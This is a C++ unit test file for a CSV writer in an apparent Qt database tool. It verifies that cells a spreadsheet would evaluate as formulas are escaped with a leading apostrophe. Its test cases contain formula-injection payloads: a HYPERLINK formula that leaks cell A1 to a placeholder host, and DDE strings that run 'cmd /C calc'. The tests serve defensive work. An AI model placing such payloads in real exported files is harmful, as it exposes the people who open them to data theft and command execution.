#include "cli/csvwriter.h"
#include "support/clirun.h"
#include "support/tempdata.h"

#include <QFile>

using namespace fenpai;

// Texts a spreadsheet would run as formulas are kept text; numbers, negative ones included, and
// texts that merely contain such a character are written as they are.
TEST(CsvWriter, TextsThatWouldRunAsFormulasAreKeptText)
{
    const struct
    {
        const char *cell;
        const char *written;
    } cases[] = {
        {"=HYPERLINK(\"http://x.invalid/?\"&A1,\"点我\")",
         "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"点我\"\")\""},
        {"=1+1", "'=1+1"},
        {"+1-2", "'+1-2"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "\"'\r=1\""},
        {"-", "'-"},
        {"-5", "-5"},
        {"-12.5", "-12.5"},
        {"+3", "+3"},
        {"-1e3", "-1e3"},
        {"1=1", "1=1"},
        {"a@b", "a@b"},
        {"", ""},
        {"张三", "张三"},
    };
    for (const auto &c : cases)
        EXPECT_EQ(CsvWriter::field(QString::fromUtf8(c.cell)), QString::fromUtf8(c.written))
            << c.cell;
}

// The same through an export of a table and through the sql command's output.
TEST(CsvWriter, ExportsAndQueriesWriteNoFormula)
{
    test::TempData t;
    t.exec({"CREATE TABLE 考生表 (姓名 text, 成绩 double)",
            "INSERT INTO 考生表 VALUES ('=cmd|'' /C calc''!A0', -5)"});
    t.db.close();
    const QString csv = t.dir.filePath("out.csv");
    test::CliOutcome r = test::runCli({"--data-dir", t.dir.path(), "show", "考生表", "-o", csv});
    ASSERT_EQ(r.status, 0) << r.err.toStdString();
    QFile f(csv);
    ASSERT_TRUE(f.open(QIODevice::ReadOnly));
    EXPECT_EQ(QString::fromUtf8(f.readAll()), "姓名,成绩\n'=cmd|' /C calc'!A0,-5\n");

    r = test::runCli({"--data-dir", t.dir.path(), "sql", "select 姓名, 成绩 from 考生表"});
    EXPECT_EQ(r.out, "姓名,成绩\n'=cmd|' /C calc'!A0,-5\n");
}
